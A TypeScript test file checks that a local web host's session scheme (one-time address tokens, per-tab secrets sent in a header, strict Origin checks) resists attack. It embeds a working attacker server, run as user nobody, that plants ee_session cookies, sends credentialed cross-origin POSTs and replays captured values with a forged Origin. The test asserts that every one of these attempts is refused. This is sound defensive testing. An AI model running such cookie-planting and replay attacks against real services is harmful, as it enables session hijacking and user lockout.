// The web host's session under attack (issue 18, item 1). A cookie on 127.0.0.1 goes to every port, so a server
// another local user (nobody) runs on another loopback port received ee_session with any image the user's browser
// loaded from it, and that cookie alone opened the whole API; a second ee_session planted from there locked the user
// out. Now the one-time address is exchanged for a secret the page keeps per tab and origin and sends in a header,
// every API request needs the exact Origin, and no cookie means anything. Real web host, real Chromium, real users.
import { type ChildProcess, execFile, spawn } from 'node:child_process'
import { mkdir, mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { MemorySecretStore } from '../../src/main/connections/secret-store'
import { type WebHost, startWebHost } from '../../src/main/web-host'
import { Workspace } from '../../src/main/workspace/workspace'
import { SESSION_HEADER, SESSION_STORAGE_KEY } from '../../src/shared/web-session'
import { buildRenderer } from '../helpers/app-page'
import { launchChromium } from '../helpers/chromium'
import { type ApiSession, exchangeToken, openApiSession, tokenOf } from '../helpers/web-session'

const asRoot = process.getuid?.() === 0
if (!asRoot) process.stdout.write('web-session: the attacks run as user nobody need root (runuser); they are skipped here.\n')

let work = ''
let rendererDir = ''
let w: Workspace
let host: WebHost
let browser: Browser
let context: BrowserContext
/** The user's tab, opened on the printed address. */
let page: Page
let api: ApiSession
/** The workspace's clock: moved on, a refresh's end reads differently on the page. */
let clock = Date.now()

/** The app answered the page: its connection list came through the API. */
const appShown = (p: Page): Promise<unknown> =>
  p.waitForFunction(() => document.querySelector('select[aria-label=connection] option:checked')?.textContent === 'Demo bucket (built in)', undefined, {
    timeout: 60_000
  })
const noSessionShown = (p: Page): Promise<unknown> =>
  p.waitForFunction(
    () =>
      /open the address npm run serve printed, or press Enter in its terminal for a new one/.test(
        document.querySelector('[data-testid=no-session]')?.textContent ?? ''
      ),
    undefined,
    { timeout: 60_000 }
  )

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'ee-web-session-'))
  rendererDir = await buildRenderer(work)
  // An empty folder as the demo: the session is what is tested, not the bucket (the app says it is not an export yet).
  const bucketDir = join(work, 'bucket')
  await mkdir(bucketDir)
  w = new Workspace({
    dataDir: join(work, 'data'),
    secrets: new MemorySecretStore(),
    demo: { bucketDir, now: clock },
    clock: () => clock,
    autoRefresh: false
  })
  host = await startWebHost({ workspace: w, rendererDir })
  api = await openApiSession(host)
  browser = await launchChromium()
  context = await browser.newContext({ viewport: { width: 1200, height: 800 } })
  page = await context.newPage()
  page.on('pageerror', (e) => process.stderr.write(`page error: ${e.message}\n`))
  await page.goto(host.url)
  await appShown(page)
}, 300_000)
afterAll(async () => {
  await browser?.close()
  await host?.close()
  await w?.dispose()
  if (work) await rm(work, { recursive: true, force: true })
})

const secretOf = (p: Page): Promise<string | null> => p.evaluate((key) => sessionStorage.getItem(key), SESSION_STORAGE_KEY)
const post = (path: string, headers: Record<string, string>, body = '{}'): Promise<Response> =>
  fetch(`${host.origin}${path}`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body })

describe('the session of the web host', () => {
  it('takes the token out of the address bar, sets no cookie, and keeps the secret in the tab only', async () => {
    expect(page.url()).toBe(`${host.origin}/`)
    expect(await context.cookies()).toEqual([])
    const secret = await secretOf(page)
    expect(secret).toMatch(/^[0-9a-f]{64}$/)
    // The secret is not the token: knowing the printed address after its use gives nothing.
    expect(secret).not.toBe(tokenOf(host.url))
  })

  it('opens one session per printed address: a used token is refused with what to do', async () => {
    const address = host.newAddress()
    expect(address).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/#t=[0-9a-f]{64}$/)
    expect((await exchangeToken(host, tokenOf(address))).status).toBe(200)
    for (const token of [tokenOf(address), tokenOf(host.url), '0'.repeat(64), '', 42]) {
      const again = await exchangeToken(host, token)
      expect(again.status, String(token)).toBe(403)
      expect(((await again.json()) as { error: string }).error).toMatch(/already used.*press Enter in its terminal for a new one/)
    }
  })

  it('refuses an API call without Origin, with a wrong Origin, without or with a wrong secret, saying why', async () => {
    const secret = { [SESSION_HEADER]: api.secret }
    const cases: [string, Record<string, string>, RegExp][] = [
      ['no Origin', secret, /without an Origin header/],
      ['foreign Origin', { ...secret, origin: 'http://evil.example' }, /a request from http:\/\/evil\.example/],
      ['another loopback port', { ...secret, origin: `http://127.0.0.1:${Number(new URL(host.origin).port) + 1}` }, /a request from http:\/\/127\.0\.0\.1:/],
      ['no secret', { origin: host.origin }, /carries no session.*press Enter in its terminal/],
      ['wrong secret', { origin: host.origin, [SESSION_HEADER]: '0'.repeat(64) }, /carries no session/],
      ['the token as secret', { origin: host.origin, [SESSION_HEADER]: tokenOf(host.url) }, /carries no session/],
      ['the secret as a cookie', { origin: host.origin, cookie: `ee_session=${api.secret}` }, /carries no session/]
    ]
    for (const [name, headers, words] of cases)
      for (const path of ['/api/connections', '/api/events']) {
        const r = await post(path, headers)
        expect(r.status, `${name} ${path}`).toBe(403)
        expect(((await r.json()) as { error: string }).error, name).toMatch(words)
      }
    // A cross-origin preflight gets no allow: a page elsewhere cannot send the header at all.
    const preflight = await fetch(`${host.origin}/api/connections`, {
      method: 'OPTIONS',
      headers: { origin: 'http://127.0.0.1:1', 'access-control-request-method': 'POST', 'access-control-request-headers': SESSION_HEADER }
    })
    expect(preflight.status).toBe(403)
    expect([...preflight.headers.keys()].filter((k) => k.startsWith('access-control-'))).toEqual([])
    expect((await api.post('connections')).status).toBe(200)
  })

  it('gives no meaning to ee_session cookies: planted ones (one or many, any path) neither lock the page out nor get in', async () => {
    const port = new URL(host.origin).port
    await context.addCookies(
      ['/', '/api', '/api/events', '/assets'].map((path, i) => ({ name: 'ee_session', value: `${i}`.repeat(64), domain: '127.0.0.1', path }))
    )
    await page.reload()
    await appShown(page)
    expect(await page.evaluate(async () => (await fetch('/api/events', { method: 'POST' })).status)).toBe(403)
    // Many values, the page's own Origin: still no session.
    const many = (await context.cookies(`${host.origin}/api/events`)).map((c) => `${c.name}=${c.value}`).join('; ')
    expect(many.split('ee_session=').length - 1).toBe(3)
    expect((await post('/api/connections', { origin: `http://127.0.0.1:${port}`, cookie: many })).status).toBe(403)
    expect((await post('/api/connections', { ...api.headers, cookie: many })).status).toBe(200)
    await context.clearCookies()
  })

  it('keeps working after a reload in the same tab, and after opening the used address again there', async () => {
    const secret = await secretOf(page)
    await page.reload()
    await appShown(page)
    await page.goto('about:blank')
    await page.goto(host.url)
    await appShown(page)
    expect(page.url()).toBe(`${host.origin}/`)
    expect(await secretOf(page)).toBe(secret)
  })

  it('refuses a second tab without the secret, with the words of what to do; a new address opens it', async () => {
    const other = await context.newPage()
    try {
      await other.goto(`${host.origin}/`)
      await noSessionShown(other)
      // The printed address was used by the first tab: opening it here is refused as well.
      await other.goto(host.url)
      await expect.poll(() => other.url()).toBe(`${host.origin}/`)
      await noSessionShown(other)
      expect(
        await other.evaluate(async (h) => (await fetch('/api/connections', { method: 'POST', headers: { [h]: '0'.repeat(64) } })).status, SESSION_HEADER)
      ).toBe(403)
      await other.screenshot({ path: 'test-results/web-session-no-session.png' })
      // A new address pasted into the same tab changes only the fragment (no load): it is taken all the same.
      await other.goto(host.newAddress())
      await appShown(other)
      await expect.poll(() => other.url()).toBe(`${host.origin}/`)
      expect(await secretOf(other)).not.toBe(await secretOf(page))
    } finally {
      await other.close()
    }
  })

  it('delivers events to the page on its secret only', async () => {
    await w.running
    const status = page.locator('[data-testid=refresh-status]')
    await expect.poll(() => status.textContent(), { timeout: 30_000 }).toMatch(/^Refreshed \d\d:\d\d local/)
    const before = await status.textContent()
    // A refresh the page did not ask for, an hour later: only its refreshDone event can change the line the page shows.
    clock += 3_600_000
    expect((await api.post('refresh', { full: true })).status).toBe(200)
    await w.running
    await expect.poll(() => status.textContent(), { timeout: 30_000 }).not.toBe(before)
    expect(await status.textContent()).toMatch(/^Refreshed \d\d:\d\d local/)
    // From the page itself: the stream answers its secret, and not the same request without it.
    const got = await page.evaluate(
      async ([h, key]) => {
        const without = (await fetch('/api/events', { method: 'POST' })).status
        const res = await fetch('/api/events', { method: 'POST', headers: { [h]: sessionStorage.getItem(key) ?? '' } })
        const reader = (res.body as ReadableStream<Uint8Array>).getReader()
        await reader.read()
        // The stream is open: a refresh now pushes its events on it.
        await fetch('/api/refresh', {
          method: 'POST',
          headers: { [h]: sessionStorage.getItem(key) ?? '', 'content-type': 'application/json' },
          body: '{"full":false}'
        })
        const decoder = new TextDecoder()
        let text = ''
        while (!text.includes('"refreshDone"')) {
          const { value, done } = await reader.read()
          if (done) break
          text += decoder.decode(value, { stream: true })
        }
        await reader.cancel()
        return { without, status: res.status, names: text.split('\n').flatMap((l) => (l ? [(JSON.parse(l) as { name: string }).name] : [])) }
      },
      [SESSION_HEADER, SESSION_STORAGE_KEY] as const
    )
    expect(got.without).toBe(403)
    expect(got.status).toBe(200)
    expect(got.names).toContain('refreshDone')
    await w.running
  })
})

/** A server as user nobody on another loopback port: records every request, plants ee_session cookies, replays what it got against the app. */
const ATTACKER = String.raw`
const http = require('node:http')
const app = process.argv[1]
const seen = []
const page = '<!doctype html><title>cats</title><link rel="icon" href="/favicon.ico"><img src="/pixel.png"><img src="' + app + '/icon.svg">' +
  '<script>const save = (init) => fetch(' + JSON.stringify(app + '/api/connectionSave') + ', { method: "POST", credentials: "include", ' +
  'body: JSON.stringify({ connection: { name: "saved-by-nobody", provider: "local", path: "/" } }), ...init }).catch(() => null);' +
  'Promise.all([save({ mode: "no-cors" }), save({ headers: { "content-type": "application/json" } })]).then(() => { document.title = "done" })</script>'
async function replay() {
  // Every value it received, tried as a cookie, a session header and a launch token, with the app's exact Origin forged.
  const cookies = [...new Set(seen.map((r) => r.headers.cookie).filter(Boolean))]
  const values = [...new Set(seen.flatMap((r) => Object.values(r.headers).flatMap((v) => String(v).split(/[;=,\s]+/))).concat(seen.map((r) => r.url)))]
  const tries = []
  const json = { 'content-type': 'application/json', origin: app }
  for (const cookie of cookies) tries.push({ path: '/api/connectionSave', headers: { ...json, cookie } })
  for (const v of values) tries.push({ path: '/api/connectionSave', headers: { ...json, 'x-export-explorer-session': v } })
  for (const v of values) tries.push({ path: '/api/session', headers: json, body: JSON.stringify({ token: v }) })
  const out = []
  for (const t of tries) {
    const r = await fetch(app + t.path, { method: 'POST', headers: t.headers, body: t.body ?? JSON.stringify({ connection: { name: 'replayed-by-nobody', provider: 'local', path: '/' } }) })
    out.push({ path: t.path, status: r.status, body: (await r.text()).slice(0, 300) })
  }
  return out
}
const server = http.createServer((req, res) => {
  if (req.url === '/seen') return res.end(JSON.stringify({ uid: process.getuid(), seen }))
  if (req.url === '/replay') return void replay().then((r) => res.end(JSON.stringify(r)))
  seen.push({ method: req.method, url: req.url, headers: req.headers })
  if (req.url === '/') {
    res.writeHead(200, { 'content-type': 'text/html', 'set-cookie': ['ee_session=' + '0'.repeat(64) + '; Path=/', 'ee_session=tossed-api; Path=/api', 'ee_session=tossed-events; Path=/api/events'] })
    return res.end(page)
  }
  res.writeHead(200, { 'content-type': 'image/gif' })
  res.end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'))
})
server.listen(0, '127.0.0.1', () => console.log(server.address().port))
`

describe.skipIf(!asRoot)('a server of another local user (nobody) on another loopback port', () => {
  let attacker: ChildProcess | null = null
  let evil = ''
  beforeAll(async () => {
    attacker = spawn('runuser', ['-u', 'nobody', '--', process.execPath, '-e', ATTACKER, host.origin], { stdio: ['ignore', 'pipe', 'pipe'] })
    // Its errors are worth seeing; runuser's own line when it is stopped at the end is not.
    attacker.stderr?.on('data', (d: Buffer) => void (/Session terminated/.test(d.toString()) || process.stderr.write(d)))
    const port = await new Promise<string>((res, rej) => {
      attacker?.stdout?.once('data', (d: Buffer) => res(d.toString().trim()))
      attacker?.once('exit', (code) => rej(new Error(`the attacker's server exited ${code}`)))
    })
    evil = `http://127.0.0.1:${port}`
  })
  afterAll(() => {
    attacker?.kill()
  })

  it('receives no credential from the browser that has the app open, and what it received opens nothing', async () => {
    const secret = (await secretOf(page)) as string
    expect(secret).toMatch(/^[0-9a-f]{64}$/)
    const before = (await w.connections()).connections.length
    const tab = await context.newPage()
    try {
      await tab.goto(evil)
      await expect.poll(() => tab.title(), { timeout: 30_000 }).toBe('done')
      // Its page loaded again: the browser now sends it (and the app) the cookies it planted.
      await tab.reload()
      await expect.poll(() => tab.title(), { timeout: 30_000 }).toBe('done')
    } finally {
      await tab.close()
    }
    const { uid, seen } = (await (await fetch(`${evil}/seen`)).json()) as { uid: number; seen: { url: string; headers: Record<string, string> }[] }
    expect(uid).toBe(65534)
    expect(seen.map((r) => r.url)).toEqual(expect.arrayContaining(['/', '/pixel.png']))
    const everything = JSON.stringify(seen)
    expect(everything).not.toContain(secret)
    expect(everything).not.toContain(tokenOf(host.url))
    // The only cookies it saw are its own.
    for (const r of seen)
      for (const c of (r.headers['cookie'] ?? '').split(/;\s*/).filter(Boolean)) expect(c).toMatch(/^ee_session=(0{64}|tossed-api|tossed-events)$/)

    // With all of it (cookies, headers, addresses) and the app's Origin forged, nothing is saved or opened.
    const tries = (await (await fetch(`${evil}/replay`)).json()) as { path: string; status: number; body: string }[]
    expect(tries.length).toBeGreaterThan(10)
    for (const t of tries) {
      expect(t.status, JSON.stringify(t)).toBe(403)
      expect(t.body).toMatch(/press Enter in its terminal for a new one/)
    }
    expect((await w.connections()).connections.length).toBe(before)
    expect(JSON.stringify(await w.connections())).not.toMatch(/by-nobody/)

    // The cookies it tossed lock nobody out: the user's tab reloads and works.
    expect((await context.cookies()).filter((c) => c.name === 'ee_session').length).toBe(3)
    await page.reload()
    await appShown(page)
    expect(await secretOf(page)).toBe(secret)
    await context.clearCookies()
  }, 120_000)
})

describe('npm run serve: a new one-time address on demand', () => {
  let child: ChildProcess | null = null
  afterAll(() => {
    if (child?.exitCode === null) child.kill('SIGTERM')
  })

  it('prints a working new address on Enter and on SIGUSR1 (without opening an inspector), and says how in its lines and --help', async () => {
    const help = await new Promise<string>((res, rej) =>
      execFile(process.execPath, ['--import', 'tsx', 'src/cli/serve.ts', '--help'], (e, out) => (e ? rej(e) : res(out)))
    )
    expect(help).toMatch(/press Enter in this terminal,\s+or send the process SIGUSR1/)
    const data = join(work, 'serve-data')
    child = spawn(
      process.execPath,
      [
        '--import',
        'tsx',
        resolve('src/cli/serve.ts'),
        '--bucket',
        join(work, 'bucket'),
        '--port',
        '0',
        '--data',
        data,
        '--renderer',
        rendererDir,
        '--export-dir',
        work
      ],
      { stdio: ['pipe', 'pipe', 'pipe'] }
    )
    let out = ''
    let err = ''
    child.stdout?.on('data', (d: Buffer) => (out += d.toString()))
    child.stderr?.on('data', (d: Buffer) => (err += d.toString()))
    const addresses = (): string[] => [...out.matchAll(/^open (http:\/\/127\.0\.0\.1:\d+\/#t=[0-9a-f]{64})$/gm)].map((m) => m[1] as string)
    const nth = (n: number): Promise<string> =>
      expect
        .poll(() => addresses().length, { timeout: 120_000 })
        .toBeGreaterThanOrEqual(n)
        .then(() => addresses()[n - 1] as string)
    const first = await nth(1)
    expect(out).toContain(`for a new address press Enter here, or run: kill -USR1 ${child.pid}`)
    child.stdin?.write('\n')
    const second = await nth(2)
    child.kill('SIGUSR1')
    const third = await nth(3)
    expect(new Set([first, second, third]).size).toBe(3)
    const origin = new URL(first).origin
    for (const address of [third, first, second]) {
      expect((await exchangeToken({ origin }, tokenOf(address))).status).toBe(200)
      expect((await exchangeToken({ origin }, tokenOf(address))).status).toBe(403)
    }
    // A SIGUSR1 with no listener starts Node's inspector, which every local user can reach: not here.
    expect(err).not.toMatch(/Debugger listening/)
    expect(child.exitCode).toBeNull()
  }, 180_000)
})
